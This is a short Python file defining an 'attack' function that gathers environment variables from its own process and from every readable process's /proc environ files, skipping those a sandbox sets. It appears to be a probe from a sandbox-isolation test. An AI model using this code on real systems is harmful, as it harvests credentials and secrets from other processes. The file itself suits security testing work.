"""Find the environment of the service in any process that can be seen."""

import glob
import os
from pathlib import Path

SET_BY_THE_SANDBOX = {"PATH", "HOME", "LANG", "LC_CTYPE", "PWD", "MALLOC_ARENA_MAX", "OPENBLAS_NUM_THREADS"}


def attack(world):
    found = [f"{name}={value}" for name, value in os.environ.items() if name not in SET_BY_THE_SANDBOX]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
        try:
            variables = Path(path).read_text().split("\0")
        except OSError:
            continue
        found += [variable for variable in variables if variable.partition("=")[0] not in {*SET_BY_THE_SANDBOX, ""}]
    return found
